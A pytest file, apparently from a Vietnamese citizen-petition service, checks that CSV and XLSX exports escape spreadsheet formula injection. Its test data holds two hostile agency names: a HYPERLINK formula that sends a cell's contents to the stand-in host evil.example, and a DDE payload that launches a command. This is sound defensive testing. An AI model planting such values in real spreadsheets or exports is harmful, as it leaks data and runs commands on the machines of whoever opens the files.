"""Hardening, through the public HTTP API: exports that never run a formula, rate limits by
principal, the dashboard's server-side session, JWT issuer and audience, private key files,
citizens' actors sealed, Idempotency-Keys digested, security headers on every HTML answer."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from tests.dialogue.helpers import created, kien_nghi_body, ok
from tests.helpers import catch_up

EVIL_AGENCY = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def overdue_with_agency(dialogue: TestClient, agency: str) -> str:
    kien_nghi = created(dialogue, "/kien-nghi", kien_nghi_body(received_on="2024-05-02"))
    ok(
        dialogue,
        f"/kien-nghi/{kien_nghi}/assignment",
        {"agency": agency, "due_on": "2024-06-01", "assigned_on": "2024-05-03"},
    )
    return kien_nghi


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


EXPORTS = [
    ("/reports/kien-nghi", {"group_by": "agency", "period": "2024"}),
    ("/dashboard/kien-nghi/overdue", {"province": "01", "period": "2024"}),
]


@pytest.mark.parametrize(("path", "params"), EXPORTS)
def test_exports_never_start_a_formula(
    dialogue: TestClient, aggregator: TestClient, path: str, params: dict[str, str]
) -> None:
    overdue_with_agency(dialogue, EVIL_AGENCY)
    overdue_with_agency(dialogue, "@SUM(1+1)*cmd|' /C calc'!A0")
    overdue_with_agency(dialogue, "UBND phường Trúc Bạch")
    catch_up(aggregator)

    answer = aggregator.get(path, params={**params, "format": "csv"})
    assert answer.status_code == 200, answer.text
    cells = [c for row in csv_cells(answer.content) for c in row]
    assert "'" + EVIL_AGENCY in cells and "UBND phường Trúc Bạch" in cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]

    answer = aggregator.get(path, params={**params, "format": "xlsx"})
    assert answer.status_code == 200, answer.text
    cells = xlsx_cells(answer.content)
    assert not [c for c in cells if c.data_type == "f"]  # type: ignore[attr-defined]
    texts = {c.value: c.data_type for c in cells}  # type: ignore[attr-defined]
    assert texts[EVIL_AGENCY] == "s"  # the text as it was, a string cell
    figures = [c for c in cells if isinstance(c.value, int)]  # type: ignore[attr-defined]
    assert figures and all(c.data_type == "n" for c in figures)  # type: ignore[attr-defined]
